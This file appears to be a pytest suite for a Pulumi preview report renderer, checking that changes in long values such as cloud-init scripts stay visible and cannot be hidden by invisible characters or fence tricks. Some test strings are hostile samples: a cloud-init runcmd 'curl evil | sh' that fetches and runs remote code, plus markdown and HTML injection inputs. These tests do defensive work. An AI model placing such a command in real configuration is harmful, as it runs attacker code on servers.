"""Long values: the report shows what of them changes."""

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pulumi_pika.report.markdown import markdown
from pulumi_pika.report.report_model import Value
from pulumi_pika.report.terminal import terminal
from pulumi_pika.report.values import _distinct, shown_value

from ...support.previews import (
    of_tree,
    step,
    tree_of,
)

SCRIPT = "#cloud-config\n" + "# a harmless comment\n" * 20


def texts(before: Any, after: Any, name: str = "cloud_init_user_data") -> list[str]:
    """The report of an update of one property, in both formats for people."""
    tree = tree_of("update")
    web = step(tree, "web")
    for state, value in (("oldState", before), ("newState", after)):
        if value is not None:
            web[state]["inputs"][name] = value
    made = of_tree(tree)
    return [markdown(made), terminal(made)]


def test_a_change_behind_much_that_is_equal_is_shown() -> None:
    start = "x" * 5_000
    for text in texts(f"{start}[echo ok]{start}", f"{start}[curl evil]{start}", "description"):
        assert "[echo ok]" in text
        assert "[curl evil]" in text
        assert "10,009 characters → 10,011 characters" in text
        assert max(map(len, text.splitlines())) < 700
    # What is long and stays needs no room.
    assert all("xxxx" not in text for text in texts(start, start, "description"))


def test_values_of_several_lines_are_a_diff() -> None:
    before, after = SCRIPT + "runcmd: [echo ok]\n", SCRIPT + "runcmd: ['curl evil | sh']\n"
    shown, plain = texts(before, after)
    assert "**see below** (22 lines, 452 characters → 22 lines, 461 characters)" in shown
    block = shown.partition("```diff\n")[2].partition("```")[0]
    assert block == (
        "  … 19 equal lines\n  # a harmless comment\n  # a harmless comment\n"
        "- runcmd: [echo ok]\n+ runcmd: ['curl evil | sh']\n"
    )
    assert "\n    - runcmd: [echo ok]\n    + runcmd: ['curl evil | sh']\n" in plain


ALIKE = [
    (["echo ok\u200b", "echo ok\ufeff", "echo ok\u2060", "echo ok\ufffd"], "zero width"),
    (["x" * 160 + end for end in ("a", "b", "")], "behind column 160"),
    (["y" * 400 + "a" + "z" * 400, "y" * 400 + "b" + "z" * 400, "y" * 400], "far behind it"),
    (["x" * 200 + end for end in ("\u200b", "\ufeff", "")], "both"),
    (["a\u200b", "a\\u200b", "a\ufffd"], "an escape as a text"),
]


@pytest.mark.parametrize(("lines", "_why"), ALIKE, ids=[why for _, why in ALIKE])
@pytest.mark.parametrize("side", ["removed", "added", "both"])
def test_lines_without_a_counterpart_do_not_look_alike(
    lines: list[str], _why: str, side: str
) -> None:
    kept = ["first", "last"]
    some = [kept[0], *lines, kept[1]]
    other = kept if side != "both" else [kept[0], "another", kept[1]]
    before, after = (other, some) if side == "added" else (some, other)
    value = Value(path="x", before="\n".join(before), after="\n".join(after), changed=True)
    shown = shown_value(value, whole=False, most=80).lines
    changed = [line[2:] for line in shown if line[:2] in ("- ", "+ ") and "another" not in line]
    assert len(changed) == len(set(changed)) == len(lines), shown
    assert all(len(line) < 400 for line in shown)


@given(
    st.lists(st.text(st.sampled_from("ab\u200b\ufeff\ufffd\\u20"), max_size=8), unique=True),
    st.lists(st.text(st.sampled_from("ab\u200b\ufeff\ufffd\\u20"), max_size=8), unique=True),
    st.sampled_from(["", "x" * 158, "x" * 400]),
)
def test_no_two_lines_of_a_long_diff_look_alike(
    gone: list[str], come: list[str], start: str
) -> None:
    lines = [start + line for line in [*gone, *come]]
    shown = _distinct(lines)
    assert shown.keys() == set(lines)
    assert len(set(shown.values())) == len(shown)


def test_created_values_of_several_lines_are_whole() -> None:
    tree = tree_of("create")
    step(tree, "web")["newState"]["inputs"]["cloud_init_user_data"] = SCRIPT + "last: line\n"
    for text in (markdown(of_tree(tree)), terminal(of_tree(tree))):
        assert "last: line" in text
        assert "22 lines, " in text
    step(tree, "web")["newState"]["inputs"]["cloud_init_user_data"] = "x\n" * 5_000
    assert "4,960 more lines" in markdown(of_tree(tree))


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("a b", "a  b"),
        ("ab", "a\u200bb"),
        ("a\u200bb", "a\u202eb"),
        ("a\x1bb", "a\x07b"),
        ("a\nb", "a\r\nb"),
        ("a\nb", "a\nb\n\n"),
        ("a\nb\u200b", "a\nb\u200c"),
        ("x" * 300 + "a\u200bb", "x" * 300 + "a\u200cb"),
        ("a", " a"),
    ],
)
def test_what_differs_never_looks_alike(before: str, after: str) -> None:
    value = Value(path="description", before=before, after=after, changed=True)
    shown = shown_value(value, whole=False, most=200)
    if shown.lines:
        gone = [line[2:] for line in shown.lines if line.startswith("- ")]
        come = [line[2:] for line in shown.lines if line.startswith("+ ")]
        assert gone != come
    else:
        assert shown.before != shown.after


def test_a_value_cannot_end_its_block() -> None:
    before = "a\n```\n````\n# head\n| row |\n<img src=x>\n@everyone\n\x1b[2J\n"
    shown, plain = texts(before, before.replace("head", "other"))
    fence = next(line for line in shown.splitlines() if line.endswith("diff"))
    assert fence == "`````diff"
    inside = shown.partition(f"{fence}\n")[2].partition("\n`````\n")[0]
    assert all(line[:2] in ("  ", "- ", "+ ") for line in inside.splitlines())
    assert "\x1b" not in shown + plain


def test_much_that_differs_is_bounded() -> None:
    before = "".join(f"{at}\n" for at in range(3_000))
    for text in texts(before, before.replace("\n", "!\n")):
        assert len(text.splitlines()) < 120
        assert "more lines" in text
        assert "- 0\n" in text
        assert "+ 0!\n" in text


@given(st.text(), st.text())
def test_any_two(before: str, after: str) -> None:
    value = Value(path="description", before=before, after=after, changed=True)
    shown = shown_value(value, whole=False, most=40)
    for text in (shown.before, shown.after, *shown.lines):
        assert not re.search("[\x00-\x08\n\x0b-\x1f\x7f-\x9f\u202e\u200b]", text)
        assert len(text) <= 42 or shown.lines
    if before != after:
        assert shown.lines or shown.before != shown.after
